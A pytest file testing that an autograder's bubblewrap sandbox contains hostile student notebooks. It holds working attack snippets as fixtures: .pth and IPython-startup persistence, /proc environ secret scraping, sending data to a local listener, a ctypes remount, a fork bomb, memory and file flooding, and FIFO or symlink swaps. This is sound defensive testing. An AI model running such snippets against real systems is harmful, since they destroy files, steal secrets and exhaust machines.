"""Hostile submissions against the sandbox: one student's code changes nothing but that grade.

A class of honest students before and after a row of hostile ones is graded with the
sandbox on, at ``--jobs 1`` and ``--jobs 2``. Each hostile student hands in correct answers
plus one attack, run in the cell that defines ``classify``; ``classify`` itself raises
``the attack worked: …`` unless the attack was blocked, so the row of its check says
whether the sandbox held. Afterwards the honest students have full marks and the
submissions, the key, the library and the instructor's HOME are byte-identical.

Without the sandbox (``--sandbox none``, on a throw-away copy of the library) the grader
still notices a library changed on disk and stops, flagging the notebook that did it.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import signal
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

import dlcourse
from dlcourse.grader import _sandbox
from dlcourse.grader._plan import GraderUsageError
from dlcourse.grader.command import grade

from .test_grade_command import KEY_MAIN, NB, SOLUTIONS, TIMEOUT, cell, notebook, write

CD, NJ, CL = "check_central_difference", "check_numerical_jacobian", "check_classify"
HONEST = ("aaa_honest_first", "zzz_honest_last")

# In CI (CI=true) bubblewrap must work: `make test` installs it, and these tests then fail
# rather than skip when it cannot isolate a kernel.
needs_bwrap = pytest.mark.skipif(not _sandbox.choose("auto").isolated and not os.environ.get("CI"),
                                 reason="bubblewrap cannot isolate kernels here")

# Each attack defines attack() -> "blocked", or what it managed to do. Upper-case names are
# filled in with the real paths of the test, as a student who knows them would write them.
ATTACKS = {
    # writes whose effect the tests check from outside (inside the sandbox, a path under /tmp
    # may exist in the kernel's private /tmp: the attack cannot tell whether it worked)
    "overwrites_classmates": """
def attack():
    import glob
    for p in glob.glob(SUBS + '/*/*.ipynb') + glob.glob('../../*/*.ipynb'):
        try:
            with open(p, 'w') as fh:
                fh.write('{}')
        except OSError:
            pass
    try:
        os.makedirs(SUBS + '/zzz_honest_last/planted')
    except OSError:
        pass
    return 'blocked'
""",
    "reads_the_key": """
def attack():
    try:
        return 'read the key: ' + open(KEY + '/02_calculus.ipynb').read(40)
    except OSError:
        return 'blocked'
""",
    "reads_classmates": """
def attack():
    try:
        return 'read: ' + open(SUBS + '/aaa_honest_first/02_calculus.ipynb').read(40)
    except OSError:
        return 'blocked'
""",
    "writes_the_library": """
def attack():
    import dlcourse.checks.calculus as target
    try:
        with open(target.__file__, 'a') as fh:
            fh.write('\\nraise SystemExit(1)\\n')
        return 'appended to ' + target.__file__
    except OSError:
        pass
    try:
        os.chmod(target.__file__, 0o777)
        return 'changed the mode of ' + target.__file__
    except OSError:
        return 'blocked'
""",
    "remounts_the_library": """
def attack():
    import ctypes, ctypes.util
    libc = ctypes.CDLL(ctypes.util.find_library('c'), use_errno=True)
    folder = os.path.dirname(dlcourse.__file__).encode()
    MS_REMOUNT, MS_BIND = 32, 4096
    if libc.mount(b'none', folder, None, MS_REMOUNT | MS_BIND, None) != 0:
        return 'blocked'
    try:
        open(os.path.join(folder.decode(), 'planted.py'), 'w').write('x = 1')
        return 'remounted the library read-write'
    except OSError:
        return 'blocked'
""",
    "writes_the_output": """
def attack():
    for name in ('grades.csv', 'feedback/zzz_honest_last.md', 'planted.txt'):
        try:
            os.makedirs(os.path.dirname(OUT + '/' + name), exist_ok=True)
            with open(OUT + '/' + name, 'w') as fh:
                fh.write('zzz_honest_last,0')
        except OSError:
            pass
    return 'blocked'
""",
    "ipython_startup": """
def attack():
    for home in (FAKEHOME, os.path.expanduser('~')):
        folder = home + '/.ipython/profile_default/startup'
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + '/00-evil.py', 'w') as fh:
                fh.write('import numpy\\nnumpy.linalg.eigvalsh = None\\n')
        except OSError:
            pass
    return 'blocked'
""",
    "user_site_pth": """
def attack():
    import site, sys
    ver = f'python{sys.version_info[0]}.{sys.version_info[1]}'
    for folder in (FAKEHOME + '/.local/lib/' + ver + '/site-packages', site.getusersitepackages()):
        try:
            os.makedirs(folder, exist_ok=True)
            with open(folder + '/zz_evil.pth', 'w') as fh:
                fh.write('import os; os._exit(7)\\n')
        except OSError:
            pass
    return 'blocked'
""",
    "venv_site_pth": """
def attack():
    import sysconfig
    folder = sysconfig.get_paths()['purelib']
    try:
        with open(folder + '/zz_evil.pth', 'w') as fh:
            fh.write('import os; os._exit(7)\\n')
        return 'wrote a .pth into ' + folder
    except OSError:
        return 'blocked'
""",
    "connects_to_localhost": """
def attack():
    import socket
    try:
        s = socket.create_connection(('127.0.0.1', PORT), timeout=2)
        s.sendall(b'leaked')
        s.close()
        return 'sent data to the listener'
    except OSError:
        return 'blocked'
""",
    "outlives_its_kernel": """
def attack():
    import subprocess
    subprocess.Popen(['sleep', '9876'], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp('sleep', ['sleep', '9875'])
        os._exit(0)
    os.wait()
    return 'blocked'
""",
    "signals_the_grader": """
def attack():
    import signal
    try:
        os.kill(GRADER, signal.SIGUSR1)
        return 'signalled the grader'
    except OSError:
        return 'blocked'
""",
    "reads_the_environment": """
def attack():
    secret = os.environ.get('DLCOURSE_TEST_SECRET')
    return 'blocked' if secret is None else 'read a secret: ' + secret
""",
    "fills_tmp": """
def attack():
    try:
        with open('/tmp/dlcourse-sandbox-marker', 'w') as fh:
            fh.write('x')
    except OSError:
        pass
    mine = os.path.dirname(os.getcwd())  # this notebook's own scratch folder
    visible = [p for p in os.listdir('/tmp')
               if p.startswith('dlcourse-grade-') and os.path.join('/tmp', p) != mine]
    return 'blocked' if not visible else 'sees other kernels: ' + ', '.join(visible)
""",
    "reads_the_sandbox_environ": """
def attack():
    found = []
    for pid in (p for p in os.listdir('/proc') if p.isdigit()):
        try:
            if b'hunter2' in open(f'/proc/{pid}/environ', 'rb').read():
                found.append(pid)
        except OSError:
            pass
    return 'blocked' if not found else 'read a secret in /proc/' + ','.join(found) + '/environ'
""",
    "holds_inherited_files": """
def attack():
    import stat
    held = []
    for fd in os.listdir('/proc/self/fd'):
        try:
            if stat.S_ISREG(os.fstat(int(fd)).st_mode):
                held.append(os.readlink(f'/proc/self/fd/{fd}'))
        except OSError:
            pass
    return 'blocked' if not held else 'holds files of the grader: ' + ', '.join(held)
""",
    "fills_dev": """
def attack():
    try:
        with open('/dev/ballast', 'wb') as fh:
            fh.write(b'x' * 2**20)
        return 'wrote a file into /dev'
    except OSError:
        pass
    shm = os.statvfs('/dev/shm')
    if shm.f_blocks * shm.f_frsize > 2**30:
        return f'/dev/shm holds {shm.f_blocks * shm.f_frsize >> 30} GiB outside the memory cap'
    return 'blocked'
""",
    "imports_a_module_it_wrote_under_an_installed_name": """
def attack():
    with open('tabnanny.py', 'w') as fh:  # in the working folder: the reader sees `import tabnanny`
        fh.write('HIDDEN = True\\n')
    try:
        import tabnanny
    except ImportError:
        return 'blocked'
    return 'blocked' if not getattr(tabnanny, 'HIDDEN', False) else 'imported its own tabnanny.py'
""",
    "reads_answers_from_check_messages": """
def attack():
    from dlcourse import checks  # allowed: but its messages name the reference's answers
    verdict = checks.run('02.critical_point', lambda H: 'not a type', 0)
    if verdict is not None and 'expected' in verdict.message:
        return 'read an answer of the reference: ' + verdict.message.splitlines()[-1]
    return 'blocked'
""",
}

# Attacks on the machine that the grader stops by ending the kernel: they cost the attacker
# the check of the cell that ran them (and nothing else). ``attack()`` never returns. These,
# and SWAPPED, are graded at --jobs 2 only: next to a classmate's kernel, and in half the time.
STOPPED = {
    "fills_the_results_folder": ("more than 256 MiB", """
def attack():
    results = os.path.join(os.path.dirname(os.getcwd()), 'results')
    with open(results + '/ballast', 'wb') as fh:
        for _ in range(1024):
            fh.write(b'x' * 2**20)
            fh.flush()
    return 'wrote 1 GiB into the folder that the grader reads'
"""),
    "floods_the_kernel_folder": ("10000 files", """
def attack():
    folder = os.path.join(os.path.dirname(os.getcwd()), 'kernel')
    for i in range(100_000):
        open(f'{folder}/f{i}', 'w').close()
    return 'made 100000 files in the folder that the grader reads'
"""),
    "shared_memory_past_the_cap": ("MiB of memory together", """
def attack():
    import mmap
    held = []
    for _ in range(32):  # 4 GiB in all, shared: RLIMIT_DATA does not count it
        m = mmap.mmap(-1, 2**27)
        for i in range(0, len(m), 4096):
            m[i] = 1
        held.append(m)
    return 'touched 4 GiB of shared memory'
"""),
    "fork_bomb": ("more than 256 processes", """
def attack():
    import time
    for _ in range(2000):
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
    return 'started 2000 processes'
"""),
}

# Attacks on the files the grader reads back: a background thread swaps each answer file for
# a link to /dev/zero or a FIFO. The grader refuses them (instead of reading forever) and
# goes on; the attacker's own checks are errors.
SWAP = """
def attack():
    import glob, threading, time
    results = os.path.join(os.path.dirname(os.getcwd()), 'results')
    def swap():
        while True:
            for p in glob.glob(results + '/*.json'):
                try:
                    if os.path.isfile(p) and not os.path.islink(p):
                        os.remove(p)
                        MAKE
                except OSError:
                    pass
            time.sleep(0.002)
    threading.Thread(target=swap, daemon=True).start()
    return 'blocked'
"""
SWAPPED = {
    "answers_swapped_for_a_link": ("symbolic link", SWAP.replace("MAKE", "os.symlink('/dev/zero', p)")),
    "answers_swapped_for_a_fifo": ("not a regular file", SWAP.replace("MAKE", "os.mkfifo(p)")),
}


def hostile_classify(attack: str, values: dict[str, object]) -> str:
    code = attack
    for name, value in values.items():
        code = code.replace(name, repr(value))
    return (SOLUTIONS["classify"] + "\n\nimport os\nimport dlcourse\n" + code
            + "\nATTACK = attack()\n_right = classify\n\n"
            "def classify(H):\n"
            "    if ATTACK != 'blocked':\n"
            "        raise RuntimeError('the attack worked: ' + ATTACK)\n"
            "    return _right(H)\n")


def submission(classify: str) -> dict:
    cells = [cell("import numpy as np\n\nimport dlcourse\nfrom dlcourse import checks")]
    for gid, source in (("central_difference", SOLUTIONS["central_difference"]),
                        ("numerical_jacobian", SOLUTIONS["numerical_jacobian"]),
                        ("classify", classify)):
        cells.append(cell(source, solution=True, grade=False, grade_id=gid))
    return notebook(cells)


def digest(folder: Path) -> str:
    h = hashlib.sha256()
    for p in sorted(folder.rglob("*")):
        h.update(str(p.relative_to(folder)).encode())
        if p.is_file() and not p.is_symlink():
            h.update(p.read_bytes())
    return h.hexdigest()


def _sleepers() -> list[str]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmd = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode().strip()
        except OSError:
            continue
        if cmd in ("sleep 9876", "sleep 9875"):
            found.append(cmd)
    return found


class _Listener:
    """A TCP listener on 127.0.0.1 that records whatever reaches it."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.running = True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                continue
            with conn:
                self.received.append(conn.recv(100))

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.sock.close()


@pytest.fixture(scope="module", params=[1, 2], ids=["jobs1", "jobs2"])
def hostile_class(request, tmp_path_factory):
    root = tmp_path_factory.mktemp(f"hostile{request.param}")
    key, subs, out, home = root / "key", root / "submissions", root / "out", root / "home"
    write(key / NB, KEY_MAIN)
    (home / ".ipython").mkdir(parents=True)
    (home / "notes.txt").write_text("the instructor's own file")
    listener, signals = _Listener(), []
    values = {"SUBS": str(subs), "KEY": str(key), "OUT": str(out), "FAKEHOME": str(home),
              "PORT": listener.port, "GRADER": os.getpid()}
    students = {name: submission(SOLUTIONS["classify"]) for name in HONEST}
    students |= {name: submission(hostile_classify(code, values)) for name, code in ATTACKS.items()}
    if request.param == 2:
        students |= {name: submission(hostile_classify(code, values))
                     for name, (_, code) in (STOPPED | SWAPPED).items()}
    for name, nb in students.items():
        write(subs / name / NB, nb)
    library = Path(dlcourse.__file__).parent
    before = {"subs": digest(subs), "key": digest(key), "lib": digest(library), "home": digest(home)}
    old_handler = signal.signal(signal.SIGUSR1, lambda *a: signals.append(a))
    old_home, os.environ["HOME"] = os.environ.get("HOME"), str(home)
    os.environ["DLCOURSE_TEST_SECRET"] = "hunter2"
    try:
        result = grade(subs, out, key=key, jobs=request.param, timeout=TIMEOUT, memory_mb=1024,
                       progress=False, sandbox="bwrap")
    finally:
        signal.signal(signal.SIGUSR1, old_handler)
        os.environ.pop("DLCOURSE_TEST_SECRET")
        if old_home is not None:
            os.environ["HOME"] = old_home
        listener.close()
    after = {"subs": digest(subs), "key": digest(key), "lib": digest(library), "home": digest(home)}
    return {"rows": result.rows, "before": before, "after": after, "received": listener.received,
            "signals": signals, "out": out, "sleepers": _sleepers(), "stopped": result.stopped,
            "jobs": request.param}


def rows_of(graded, student):
    return [(r.check, r.status, r.points) for r in graded["rows"] if r.student == student]


@needs_bwrap
def test_honest_students_before_and_after_hostile_ones_get_full_marks(hostile_class):
    assert not hostile_class["stopped"], hostile_class["stopped"]
    for name in HONEST:
        assert rows_of(hostile_class, name) == [(CD, "passed", 1), (NJ, "passed", 2),
                                                (CL, "passed", 2)]
    assert not hostile_class["stopped"]


@needs_bwrap
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_every_attack_is_blocked_inside_the_sandbox(hostile_class, attack):
    row = next(r for r in hostile_class["rows"] if r.student == attack and r.check == CL)
    assert "the attack worked" not in row.message, row.message
    assert "✓ [02.critical_point]" in row.message, row.message  # passed, or flagged for review
    assert row.sandbox == "bwrap"


@needs_bwrap
@pytest.mark.parametrize("attack", sorted(STOPPED))
def test_attacks_on_the_machine_end_their_kernel_and_cost_only_that_check(hostile_class, attack):
    if hostile_class["jobs"] == 1:
        pytest.skip("graded at --jobs 2 only")
    rows = {r.check: r for r in hostile_class["rows"] if r.student == attack}
    assert [(rows[c].status, rows[c].points) for c in (CD, NJ)] == [("passed", 1), ("passed", 2)]
    assert rows[CL].status == "error" and rows[CL].points == 0
    assert "the kernel was stopped" in rows[CL].message and STOPPED[attack][0] in rows[CL].message


@needs_bwrap
@pytest.mark.parametrize("attack", sorted(SWAPPED))
def test_answer_files_swapped_for_links_or_fifos_are_refused_not_read(hostile_class, attack):
    if hostile_class["jobs"] == 1:
        pytest.skip("graded at --jobs 2 only")
    rows = {r.check: r for r in hostile_class["rows"] if r.student == attack}
    for check in (CD, NJ):  # written before the thread started, swapped while the notebook ran
        assert rows[check].status == "error", rows[check].message
        assert SWAPPED[attack][0] in rows[check].message


@needs_bwrap
def test_submissions_key_library_and_home_are_byte_identical_afterwards(hostile_class):
    assert hostile_class["after"] == hostile_class["before"]


@needs_bwrap
def test_nothing_reached_the_network_the_grader_or_survived(hostile_class):
    assert hostile_class["received"] == []
    assert hostile_class["signals"] == []
    assert hostile_class["sleepers"] == []
    assert not Path("/tmp/dlcourse-sandbox-marker").exists()


@needs_bwrap
def test_only_the_grader_wrote_the_output(hostile_class):
    out = hostile_class["out"]
    assert not (out / "planted.txt").exists()
    names = {p.name for p in out.iterdir()}
    assert names <= {"grades.csv", "summary.csv", "feedback", "manifest.json", "grader.log",
                     "gradescope"}, names
    text = (out / "grades.csv").read_text(encoding="utf-8")
    assert text.count("\nzzz_honest_last,") == 3


# ------------------------------------------------------------------------------ the sandbox
@needs_bwrap
def test_the_sandbox_sees_only_the_system_python_and_library(tmp_path):
    box = _sandbox.choose("bwrap")
    for sub in ("cwd", "kernel", "results"):
        (tmp_path / sub).mkdir()
    probe = ("import os, sys, dlcourse; root = os.path.dirname(os.path.dirname(dlcourse.__file__));"
             "print(sorted(os.listdir(root)), os.getpid(), os.getcwd(), os.environ['HOME'],"
             "open('/proc/self/status').read().split('CapEff:')[1].split()[0])")
    env = _sandbox.private_env(dict(os.environ), _sandbox.HOME)
    done = subprocess.run(box.wrap([sys.executable, "-c", probe], tmp_path, env),
                          capture_output=True, text=True, timeout=60, check=True)
    listing, pid, cwd, home, caps = done.stdout.rsplit(maxsplit=4)
    package_root = Path(dlcourse.__file__).resolve().parent.parent
    assert "solutions" not in listing and "'dlcourse'" in listing  # the key is not there
    assert (package_root / "solutions").is_dir() or "solutions" not in os.listdir(package_root)
    assert int(pid) < 10  # its own PID namespace
    assert cwd == str(tmp_path / "cwd") and home == _sandbox.HOME
    assert int(caps, 16) == 0  # every capability dropped


@needs_bwrap
def test_the_secrets_of_etc_are_hidden(tmp_path):
    box = _sandbox.choose("bwrap")
    for sub in ("cwd", "kernel", "results"):
        (tmp_path / sub).mkdir()
    probe = ("import os\ndef hidden(f):\n    try:\n        return open(f).read() == ''\n"
             "    except OSError:\n        return True\n"
             "for f in ('/etc/shadow', '/etc/gshadow'):\n    print(f, hidden(f))\n"
             "print('/etc/ssh', os.path.isdir('/etc/ssh') and os.listdir('/etc/ssh') == [])\n"
             "print('/etc/passwd', os.path.getsize('/etc/passwd') > 0)")
    env = _sandbox.private_env(dict(os.environ), _sandbox.HOME)
    done = subprocess.run(box.wrap([sys.executable, "-c", probe], tmp_path, env),
                          capture_output=True, text=True, timeout=60, check=True)
    seen = dict(line.split() for line in done.stdout.splitlines())
    for name in ("/etc/shadow", "/etc/gshadow", "/etc/ssh"):
        if os.path.exists(name):  # empty inside, whatever it holds outside
            assert seen[name] == "True", (name, done.stdout)
    assert seen["/etc/passwd"] == "True"  # the rest of /etc is there


@needs_bwrap
def test_a_sandboxed_process_cannot_write_outside_its_scratch(tmp_path):
    box = _sandbox.choose("bwrap")
    for sub in ("cwd", "kernel", "results"):
        (tmp_path / sub).mkdir()
    (tmp_path / "elsewhere").mkdir()
    targets = [str(Path(dlcourse.__file__)), str(tmp_path / "elsewhere" / "x"), sys.prefix + "/x",
               "/usr/x", "/etc/x", "/etc/ssh/x"]
    probe = ("import sys\nfor t in sys.argv[1:]:\n    try:\n        open(t, 'a').close()\n"
             "        print('WROTE', t)\n    except OSError as e:\n        print('no', t)\n"
             "open('results/ok', 'w').close() if False else None\n"
             f"open({str(tmp_path / 'results' / 'ok')!r}, 'w').close()\n"
             "open('in_cwd', 'w').close()")
    env = _sandbox.private_env(dict(os.environ), _sandbox.HOME)
    done = subprocess.run(box.wrap([sys.executable, "-c", probe, *targets], tmp_path, env),
                          capture_output=True, text=True, timeout=60, check=True)
    assert "WROTE" not in done.stdout, done.stdout
    assert (tmp_path / "results" / "ok").exists()  # the answers come back
    assert not (tmp_path / "cwd" / "in_cwd").exists()  # the working folder is a private tmpfs


def test_a_kernels_messages_are_capped_before_the_worker_reads_them():
    """A 300 MiB print in one message cost the worker about three times that (measured);
    ZeroMQ now drops any message over MAX_MESSAGE_BYTES unread, and queues only a few."""
    import zmq

    from dlcourse.grader import _runner

    client = _runner._CappedKernelClient(transport="ipc", ip="/nonexistent/dlcourse-test")
    for connect in (client.connect_iopub, client.connect_shell, client.connect_control):
        sock = connect()
        try:
            assert sock.getsockopt(zmq.MAXMSGSIZE) == _runner.MAX_MESSAGE_BYTES
            assert sock.rcvhwm == _runner.QUEUED_MESSAGES
        finally:
            sock.close(linger=0)
    assert _runner.MAX_MESSAGE_BYTES < 64 * 2**20


def test_the_watchdog_counts_a_whole_process_tree_and_the_folders_it_writes(tmp_path):
    from dlcourse.grader import _runner

    (tmp_path / "results").mkdir()
    child = subprocess.Popen([sys.executable, "-c", "import os, time\nif os.fork() == 0:\n"
                              "    time.sleep(30)\ntime.sleep(30)"])
    try:
        dog = _runner.Watchdog(child.pid, [tmp_path / "results"], memory_limit=2**40)
        for _ in range(50):  # until the grandchild is there
            if len(dog._tree()) == 2:
                break
            threading.Event().wait(0.1)
        assert len(dog._tree()) == 2 and dog.excess() == ""
        with (tmp_path / "results" / "ballast").open("wb") as fh:
            fh.write(b"x" * (_runner.MAX_FOLDER_BYTES + 2**20))
        assert "more than 256 MiB" in dog.excess()
        (tmp_path / "results" / "ballast").unlink()
        assert "MiB of memory" in _runner.Watchdog(child.pid, [], memory_limit=2**20).excess()
        dog.kill()
        assert child.wait(timeout=10) == -signal.SIGKILL
    finally:
        child.kill()
        child.wait()


def test_without_bwrap_auto_falls_back_with_a_reason_and_bwrap_refuses(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    box = _sandbox.choose("auto")
    assert box.kind == "none" and "apt-get install bubblewrap" in box.why_not
    with pytest.raises(_sandbox.SandboxUnavailable, match="bubblewrap"):
        _sandbox.choose("bwrap")
    with pytest.raises(ValueError, match="auto, bwrap or none"):
        _sandbox.choose("docker")


def test_grade_says_when_kernels_are_not_isolated(tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(shutil, "which", lambda name: None)
    write(tmp_path / "key" / NB, KEY_MAIN)
    write(tmp_path / "subs" / "ada" / NB, submission(SOLUTIONS["classify"]))
    with pytest.raises(GraderUsageError, match="apt-get install bubblewrap"):
        grade(tmp_path / "subs", tmp_path / "out", key=tmp_path / "key", sandbox="bwrap",
              progress=False)
    result = grade(tmp_path / "subs", tmp_path / "out", key=tmp_path / "key", sandbox="auto",
                   timeout=TIMEOUT, progress=False)
    assert "kernels are NOT isolated" in capsys.readouterr().err
    assert {(r.status, r.sandbox) for r in result.rows} == {("passed", "none")}
    assert (tmp_path / "out" / "grades.csv").read_text().splitlines()[1].endswith(",none")


@pytest.mark.skipif(not _sandbox.gpu_devices(), reason="no NVIDIA device on this machine")
def test_a_gpu_is_passed_through(tmp_path):
    pytest.importorskip("torch")
    box = _sandbox.choose("bwrap")
    for sub in ("cwd", "kernel", "results"):
        (tmp_path / sub).mkdir()
    env = _sandbox.private_env(dict(os.environ), _sandbox.HOME)
    probe = "import torch; print(torch.cuda.is_available(), torch.ones(2, device='cuda').sum().item())"
    done = subprocess.run(box.wrap([sys.executable, "-c", probe], tmp_path, env),
                          capture_output=True, text=True, timeout=300, check=True)
    assert done.stdout.split() == ["True", "2.0"]


# ------------------------------------------------------------------------------ no sandbox
def test_without_the_sandbox_a_changed_library_stops_grading(tmp_path):
    """On a copy of the library: the notebook that changed it is flagged, the rest not graded."""
    copy = tmp_path / "lib"
    shutil.copytree(Path(dlcourse.__file__).parent, copy / "dlcourse",
                    ignore=shutil.ignore_patterns("__pycache__"))
    key, subs = tmp_path / "key", tmp_path / "subs"
    write(key / NB, KEY_MAIN)
    writer = hostile_classify(ATTACKS["writes_the_library"], {})
    for name, nb in {"aaa_honest_first": submission(SOLUTIONS["classify"]),
                     "mallory": submission(writer),
                     "zzz_honest_last": submission(SOLUTIONS["classify"])}.items():
        write(subs / name / NB, nb)
    env = dict(os.environ, PYTHONPATH=str(copy), PYTHONDONTWRITEBYTECODE="1")
    done = subprocess.run(
        [sys.executable, "-c", "import sys, dlcourse; assert dlcourse.__file__.startswith(sys.argv[1]);"
         "from dlcourse.__main__ import main; sys.exit(main(sys.argv[2:]))", str(copy),
         "grade", str(subs), "--out", str(tmp_path / "out"), "--key", str(key), "--sandbox", "none",
         "--timeout", str(TIMEOUT), "--quiet"],
        capture_output=True, text=True, timeout=600, env=env, cwd=tmp_path)
    assert done.returncode == 3, done.stderr
    assert "grading stopped early" in done.stderr and "mallory" in done.stderr
    lines = (tmp_path / "out" / "grades.csv").read_text(encoding="utf-8").splitlines()
    statuses = {(line.split(",")[0], line.split(",")[5]) for line in lines[1:]}
    assert statuses == {("aaa_honest_first", "passed"), ("mallory", "error"),
                        ("zzz_honest_last", "error")}
    text = "\n".join(lines)
    assert "Flagged for review" in text and "not graded" in text
    assert all(line.endswith(",none") for line in lines[1:])
